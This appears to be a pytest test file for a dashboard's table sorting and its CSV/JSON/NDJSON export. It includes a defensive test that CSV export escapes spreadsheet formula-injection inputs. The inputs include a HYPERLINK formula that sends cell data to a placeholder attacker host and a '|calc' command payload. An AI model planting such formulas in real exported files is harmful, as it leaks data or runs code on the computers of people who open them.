"""Tables: what is sorted, what is exported, and what a spreadsheet must never run."""

from __future__ import annotations

import csv
import io
import json

import pytest

from dashboard import tables
from dashboard.pages.lanes import natural
from dashboard.tables import Cell, Column, Table

COLUMNS = (Column("worker", "Worker"), Column("slack_s", "Slack", is_number=True), Column("why", "Why"))


def made(*rows: tuple[str, float | None, str]) -> Table:
    cells = tuple((tables.typed(name), tables.seconds(slack), tables.typed(why)) for name, slack, why in rows)
    return Table("workers", "Workers", COLUMNS, cells)


def ordered(by: str) -> list[str]:
    table = made(("w10", 0.2, "a"), ("w2", None, "b"), ("w1", 0.1, "c"), ("w3", -0.3, "d"))
    return [row[0].text for row in tables.sorted_by(table, by, lambda key: f"?sort={key}", natural).rows]


@pytest.mark.parametrize(
    ("by", "order"),
    [
        ("", ["w10", "w2", "w1", "w3"]),
        ("worker", ["w1", "w2", "w3", "w10"]),
        ("-worker", ["w10", "w3", "w2", "w1"]),
        ("slack_s", ["w3", "w1", "w10", "w2"]),
        ("-slack_s", ["w10", "w1", "w3", "w2"]),  # unknown last either way
        ("nonsense", ["w10", "w2", "w1", "w3"]),
    ],
)
def test_rows_are_in_the_order_asked_for_and_unknown_is_last(by: str, order: list[str]) -> None:
    assert ordered(by) == order


def test_a_heading_tells_how_it_sorts_and_leads_to_the_other_way() -> None:
    table = tables.sorted_by(made(("w1", 0.1, "a")), "slack_s", lambda key: f"?sort={key}", natural)
    assert (table.aria_sort("slack_s"), table.aria_sort("worker")) == ("ascending", "none")
    assert table.sort_links == {"worker": "?sort=worker", "slack_s": "?sort=-slack_s", "why": "?sort=why"}


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+SUM(A1)",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",  # full width
        '"=1',
        "'=1",
        "=HYPERLINK(\"http://evil.example?x=\"&A1)",
        "|calc",
        "%0a=1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_text_in_the_csv(formula: str) -> None:
    body = tables.exported(made((formula, 0.1, formula)), "csv").decode()
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[0] == row[2] == f"'{formula}"


def test_numbers_keep_their_sign_and_all_their_digits_and_unknown_is_empty() -> None:
    body = tables.exported(made(("w1", -0.0123456789, "a"), ("w2", None, "b")), "csv").decode()
    assert [row[1] for row in csv.reader(io.StringIO(body))] == ["slack_s", "-0.0123456789", ""]


def test_names_with_commas_quotes_and_lines_stay_one_cell() -> None:
    name = 'a,"b"\nc'
    assert [row[0] for row in csv.reader(io.StringIO(tables.exported(made((name, 1, "")), "csv").decode()))][1] == name


def test_json_and_ndjson_have_the_values_and_unknown_is_null() -> None:
    table = made(("w1", 0.1, "=1"), ("w2", None, ""))
    wanted = [{"worker": "w1", "slack_s": 0.1, "why": "=1"}, {"worker": "w2", "slack_s": None, "why": ""}]
    assert json.loads(tables.exported(table, "json")) == wanted
    assert [json.loads(line) for line in tables.exported(table, "ndjson").splitlines()] == wanted


def test_a_number_that_is_none_is_null_and_never_a_bare_word() -> None:
    table = Table("t", "T", (Column("a", "A"),), ((Cell(float("nan"), "unknown"),),))
    assert json.loads(tables.exported(table, "json")) == [{"a": None}]


def test_another_format_is_refused() -> None:
    with pytest.raises(KeyError):
        tables.exported(made(), "xlsx")
